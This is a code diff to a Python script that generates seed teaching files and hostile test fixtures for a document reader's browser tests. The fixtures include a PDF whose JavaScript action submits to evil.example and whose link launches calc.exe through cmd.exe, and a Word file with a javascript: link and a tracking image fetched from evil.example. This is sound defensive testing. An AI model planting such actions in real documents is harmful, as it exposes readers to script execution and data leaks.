@@ -3,13 +3,19 @@
 
 Run once (python3 infra/local/seed-files/make-seed-files.py); the outputs are committed. Standard library only:
 a two-page PDF written by hand with a correct cross-reference table, and minimal but complete OOXML packages
-(a Word document and a two-slide presentation with the master, layout and theme PowerPoint requires).
-Zip entries carry a fixed timestamp so the files are reproducible byte for byte.
+(a Word document and a presentation with the master, layout and theme PowerPoint requires, bullet lists, a
+picture and a table). It also writes the hostile files the reader's browser tests open (test/e2e/fixtures/):
+a PDF with JavaScript and launch actions, a Word document with a javascript: link and an external image, and a
+presentation with five hundred slides. Zip entries carry a fixed timestamp so the files are reproducible byte for byte.
+The large multi-page PDF is not committed: infra/local/large-pdf.ts writes it at seed time.
 """
 import os
+import struct
 import zipfile
+import zlib
 
 HERE = os.path.dirname(os.path.abspath(__file__))
+HOSTILE_DIR = os.path.join(HERE, "..", "..", "..", "test", "e2e", "fixtures")
 FIXED_TIME = (2024, 1, 1, 0, 0, 0)
 
 
@@ -23,6 +29,24 @@ def page_stream(heading, lines):
         parts.append(f"({pdf_escape(line)}) '")
     parts.append("ET")
     return "\n".join(parts).encode("latin-1")
+
+
+def write_pdf(path, objects, title):
+    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
+    xref_offset = len(out)
+    size = max(objects) + 1
+    out += b"xref\n0 %d\n" % size
+    out += b"0000000000 65535 f \n"
+    for number in range(1, size):
+        out += b"%010d 00000 n \n" % offsets[number]
+    out += b"trailer\n<< /Size %d /Root 1 0 R /Info << /Title (%s) >> >>\n" % (size, pdf_escape(title).encode("latin-1"))
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
+    with open(path, "wb") as handle:
+        handle.write(out)
 
 
 def make_pdf(path):
@@ -70,29 +94,59 @@ def make_pdf(path):
         objects[content_number] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
     objects[2] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {page_count} >>".encode("latin-1")
 
-    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
-    offsets = {}
-    for number in sorted(objects):
-        offsets[number] = len(out)
-        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
-    xref_offset = len(out)
-    size = max(objects) + 1
-    out += b"xref\n0 %d\n" % size
-    out += b"0000000000 65535 f \n"
-    for number in range(1, size):
-        out += b"%010d 00000 n \n" % offsets[number]
-    out += b"trailer\n<< /Size %d /Root 1 0 R /Info << /Title (Cells: the building blocks of life) >> >>\n" % size
-    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
-    with open(path, "wb") as handle:
-        handle.write(out)
+    write_pdf(path, objects, "Cells: the building blocks of life")
+
+
+def make_hostile_pdf(path):
+    """Opens with a JavaScript action and has a link that would launch a program; neither may ever run."""
+    stream = page_stream("A PDF with actions", ["Opening this file must not run its script or launch anything."])
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(boom) 6 0 R] >> >> >>",
+        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R /F2 3 0 R >> >>"
+        b" /Contents 5 0 R /Annots [7 0 R] /AA << /O 6 0 R >> >>",
+        5: b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
+        6: b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pdf script ran'\\); this.submitForm\\('https://evil.example/pdf'\\);) >>",
+        7: b"<< /Type /Annot /Subtype /Link /Rect [72 600 540 720] /Border [0 0 0]"
+        b" /A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
+    }
+    write_pdf(path, objects, "A PDF with actions")
 
 
 def write_zip(path, entries):
     with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
-        for name, text in entries:
+        for name, content in entries:
             info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
             info.compress_type = zipfile.ZIP_DEFLATED
-            archive.writestr(info, text.strip().encode("utf-8"))
+            archive.writestr(info, content if isinstance(content, bytes) else content.strip().encode("utf-8"))
+
+
+def png(width, height, pixel):
+    """A PNG of width x height RGB pixels, pixel(x, y) -> (r, g, b)."""
+    rows = b"".join(b"\x00" + b"".join(bytes(pixel(x, y)) for x in range(width)) for y in range(height))
+
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
+
+
+def leaf_picture(x, y):
+    """A green leaf (an ellipse with a darker midrib) on a pale sky."""
+    dx, dy = (x - 160) / 130, (y - 100) / 70
+    if abs(y - 100 + (x - 160) * 0.0) < 3 and abs(dx) < 1:
+        return (40, 110, 40)
+    if dx * dx + dy * dy <= 1:
+        return (70 + (x * 3) % 40, 160, 60)
+    return (225, 240, 250)
+
+
+def sun_picture(x, y):
+    """A yellow sun on blue."""
+    d = ((x - 80) ** 2 + (y - 80) ** 2) ** 0.5
+    return (250, 200, 40) if d < 50 else (90, 150, 220)
 
 
 XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
@@ -111,7 +165,7 @@ def core_props(title):
 </cp:coreProperties>"""
 
 
-def make_docx(path):
+def make_docx(path, extra_body="", extra_rels="", title="Worksheet: label a cell"):
     def paragraph(text, bold=False, size=None):
         run_props = ""
         if bold or size:
@@ -127,7 +181,7 @@ def make_docx(path):
             paragraph("3. In one sentence, explain what mitochondria do."),
             paragraph("4. Compare a plant cell and an animal cell: list two differences."),
         ]
-    )
+    ) + extra_body
     document = XML + f"""
 <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
  xmlns:r="{REL}"><w:body>{body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/>
@@ -145,15 +199,38 @@ def make_docx(path):
 <Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>
 <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>
 </Relationships>"""
-    write_zip(
-        path,
-        [
-            ("[Content_Types].xml", content_types),
-            ("_rels/.rels", rels),
-            ("docProps/core.xml", core_props("Worksheet: label a cell")),
-            ("word/document.xml", document),
-        ],
+    entries = [
+        ("[Content_Types].xml", content_types),
+        ("_rels/.rels", rels),
+        ("docProps/core.xml", core_props(title)),
+        ("word/document.xml", document),
+    ]
+    if extra_rels:
+        entries.append(("word/_rels/document.xml.rels", XML + f'<Relationships xmlns="{PKG_REL}">{extra_rels}</Relationships>'))
+    write_zip(path, entries)
+
+
+def make_hostile_docx(path):
+    """A javascript: hyperlink and a picture linked from another host: the link must be inert, the picture never fetched."""
+    link = (
+        '<w:p><w:hyperlink r:id="rIdEvil"><w:r><w:t>Click for a prize</w:t></w:r></w:hyperlink></w:p>'
+        '<w:p><w:hyperlink r:id="rIdSafe"><w:r><w:t>A safe link</w:t></w:r></w:hyperlink></w:p>'
     )
+    picture = (
+        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
+        '<wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="Tracker"/>'
+        f'<a:graphic xmlns:a="{A}"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Tracker"/><pic:cNvPicPr/></pic:nvPicPr>'
+        '<pic:blipFill><a:blip r:link="rIdImage"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
+        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
+        '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
+    )
+    rels = (
+        f'<Relationship Id="rIdEvil" Type="{REL}/hyperlink" Target="javascript:alert(\'docx script ran\')" TargetMode="External"/>'
+        f'<Relationship Id="rIdSafe" Type="{REL}/hyperlink" Target="https://example.org/safe" TargetMode="External"/>'
+        f'<Relationship Id="rIdImage" Type="{REL}/image" Target="https://evil.example/tracker.png" TargetMode="External"/>'
+    )
+    make_docx(path, extra_body=link + picture, extra_rels=rels, title="A document with a hostile link")
 
 
 P = "http://schemas.openxmlformats.org/presentationml/2006/main"
@@ -177,10 +254,53 @@ def text_box(shape_id, name, x, y, cx, cy, paragraphs, size):
     )
 
 
-def slide(title, bullets):
-    shapes = text_box(2, "Title", 838200, 365125, 10515600, 1325563, [title], 4000) + text_box(
-        3, "Body", 838200, 1825625, 10515600, 4351338, bullets, 2400
+def bullet_box(shape_id, x, y, cx, cy, bullets, size):
+    body = "".join(
+        f'<a:p><a:pPr marL="342900" indent="-342900"><a:buFont typeface="Arial"/><a:buChar char="\u2022"/></a:pPr>'
+        f'<a:r><a:rPr lang="en-GB" sz="{size}" dirty="0"/><a:t>{text}</a:t></a:r></a:p>'
+        for text in bullets
     )
+    return (
+        f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="Bullets"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
+        f'<p:spPr><a:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{cx}" cy="{cy}"/></a:xfrm>'
+        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:noFill/></p:spPr>'
+        f'<p:txBody><a:bodyPr wrap="square" rtlCol="0"><a:normAutofit/></a:bodyPr><a:lstStyle/>{body}</p:txBody></p:sp>'
+    )
+
+
+def picture(shape_id, rel_id, name, x, y, cx, cy):
+    return (
+        f'<p:pic><p:nvPicPr><p:cNvPr id="{shape_id}" name="{name}" descr="{name}"/><p:cNvPicPr><a:picLocks noChangeAspect="1"/></p:cNvPicPr><p:nvPr/></p:nvPicPr>'
+        f'<p:blipFill><a:blip r:embed="{rel_id}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
+        f'<p:spPr><a:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{cx}" cy="{cy}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
+    )
+
+
+def table(shape_id, x, y, rows):
+    column_width = 3505200
+    def cell(text, heading):
+        return (
+            f'<a:tc><a:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-GB" sz="2000" b="{1 if heading else 0}" dirty="0"/>'
+            f'<a:t>{text}</a:t></a:r></a:p></a:txBody>'
+            f'<a:tcPr><a:solidFill><a:srgbClr val="{"2E6DA4" if heading else "E7EEF6"}"/></a:solidFill></a:tcPr></a:tc>'
+        )
+
+    grid = "".join(f'<a:gridCol w="{column_width}"/>' for _ in rows[0])
+    body = "".join(
+        '<a:tr h="508000">' + "".join(cell(text, index == 0) for text in row) + "</a:tr>" for index, row in enumerate(rows)
+    )
+    return (
+        f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="{shape_id}" name="Table"/><p:cNvGraphicFramePr><a:graphicFrameLocks noGrp="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr>'
+        f'<p:xfrm><a:off x="{x}" y="{y}"/><a:ext cx="{column_width * len(rows[0])}" cy="{508000 * len(rows)}"/></p:xfrm>'
+        f'<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/table"><a:tbl><a:tblPr firstRow="1" bandRow="1"/>'
+        f'<a:tblGrid>{grid}</a:tblGrid>{body}</a:tbl></a:graphicData></a:graphic></p:graphicFrame>'
+    )
+
+
+def slide(title, bullets, extra=""):
+    shapes = text_box(2, "Title", 838200, 365125, 10515600, 1325563, [title], 4000) + bullet_box(
+        3, 838200, 1825625, 10515600 if not extra else 5800000, 4351338, bullets, 2400
+    ) + extra
     return XML + f"""
 <p:sld {NS}><p:cSld><p:spTree>{EMPTY_TREE}{shapes}</p:spTree></p:cSld>
 <p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>"""
@@ -219,13 +339,18 @@ def theme():
 </a:fmtScheme></a:themeElements><a:objectDefaults/><a:extraClrSchemeLst/></a:theme>"""
 
 
-def make_pptx(path):
-    slides = [
-        ("Photosynthesis", ["Plants make glucose from carbon dioxide and water.", "Light is absorbed by chlorophyll in chloroplasts.", "Oxygen is released as a by-product."]),
-        ("The word equation", ["carbon dioxide + water \u2192 glucose + oxygen", "Light energy is needed for the reaction."]),
-    ]
+PHOTOSYNTHESIS_SLIDES = [
+    ("Photosynthesis", ["Plants make glucose from carbon dioxide and water.", "Light is absorbed by chlorophyll in chloroplasts.", "Oxygen is released as a by-product."], "leaf"),
+    ("The word equation", ["carbon dioxide + water \u2192 glucose + oxygen", "Light energy is needed for the reaction."], "sun"),
+    ("What a leaf needs", ["Compare what goes in and what comes out."], "table"),
+]
+TABLE_ROWS = [["Goes in", "Comes out"], ["Carbon dioxide", "Glucose"], ["Water", "Oxygen"], ["Light energy", "Stored chemical energy"]]
+
+
+def make_pptx(path, slides=PHOTOSYNTHESIS_SLIDES, title="Photosynthesis"):
     content_types = XML + """
 <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
+<Default Extension="png" ContentType="image/png"/>
 <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
 <Default Extension="xml" ContentType="application/xml"/>
 <Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>
@@ -276,14 +401,16 @@ def make_pptx(path):
 <Relationships xmlns="{PKG_REL}">
 <Relationship Id="rId1" Type="{REL}/slideMaster" Target="../slideMasters/slideMaster1.xml"/>
 </Relationships>"""
-    slide_rels = XML + f"""
+    def slide_rels(image):
+        picture_rel = f'<Relationship Id="rId2" Type="{REL}/image" Target="../media/{image}.png"/>' if image else ""
+        return XML + f"""
 <Relationships xmlns="{PKG_REL}">
-<Relationship Id="rId1" Type="{REL}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/>
+<Relationship Id="rId1" Type="{REL}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/>{picture_rel}
 </Relationships>"""
     entries = [
         ("[Content_Types].xml", content_types),
         ("_rels/.rels", root_rels),
-        ("docProps/core.xml", core_props("Photosynthesis")),
+        ("docProps/core.xml", core_props(title)),
         ("ppt/presentation.xml", presentation),
         ("ppt/_rels/presentation.xml.rels", presentation_rels),
         ("ppt/slideMasters/slideMaster1.xml", master),
@@ -292,16 +419,38 @@ def make_pptx(path):
         ("ppt/slideLayouts/_rels/slideLayout1.xml.rels", layout_rels),
         ("ppt/theme/theme1.xml", theme()),
     ]
-    for n, (title, bullets) in enumerate(slides, start=1):
-        entries.append((f"ppt/slides/slide{n}.xml", slide(title, bullets)))
-        entries.append((f"ppt/slides/_rels/slide{n}.xml.rels", slide_rels))
+    pictures = {"leaf": (320, 200, leaf_picture, "A green leaf"), "sun": (160, 160, sun_picture, "The sun")}
+    used = sorted({extra for _, _, extra in slides if extra in pictures})
+    for name in used:
+        width, height, pixel, _ = pictures[name]
+        entries.append((f"ppt/media/{name}.png", png(width, height, pixel)))
+    for n, (slide_title, bullets, extra) in enumerate(slides, start=1):
+        shapes = ""
+        if extra in pictures:
+            width, height, _, description = pictures[extra]
+            shapes = picture(4, "rId2", description, 7000000, 1825625, 4200000, 4200000 * height // width)
+        elif extra == "table":
+            shapes = table(4, 838200, 2700000, TABLE_ROWS)
+        entries.append((f"ppt/slides/slide{n}.xml", slide(slide_title, bullets, shapes)))
+        entries.append((f"ppt/slides/_rels/slide{n}.xml.rels", slide_rels(extra if extra in pictures else None)))
     write_zip(path, entries)
+
+
+def make_many_slides_pptx(path, count=500):
+    """A deck with five hundred slides: the reader must stay responsive (it renders slides on demand)."""
+    slides = [(f"Slide {n} of {count}", [f"Filler slide number {n}."], None) for n in range(1, count + 1)]
+    make_pptx(path, slides, title="A very long deck")
 
 
 if __name__ == "__main__":
     make_pdf(os.path.join(HERE, "cells-reading.pdf"))
     make_docx(os.path.join(HERE, "cells-worksheet.docx"))
     make_pptx(os.path.join(HERE, "photosynthesis-slides.pptx"))
-    for name in sorted(os.listdir(HERE)):
-        if not name.endswith(".py"):
-            print(name, os.path.getsize(os.path.join(HERE, name)), "bytes")
+    os.makedirs(HOSTILE_DIR, exist_ok=True)
+    make_hostile_pdf(os.path.join(HOSTILE_DIR, "hostile-actions.pdf"))
+    make_hostile_docx(os.path.join(HOSTILE_DIR, "hostile-links.docx"))
+    make_many_slides_pptx(os.path.join(HOSTILE_DIR, "many-slides.pptx"))
+    for folder in (HERE, HOSTILE_DIR):
+        for name in sorted(os.listdir(folder)):
+            if not name.endswith((".py", ".ts")):
+                print(os.path.relpath(os.path.join(folder, name)), os.path.getsize(os.path.join(folder, name)), "bytes")
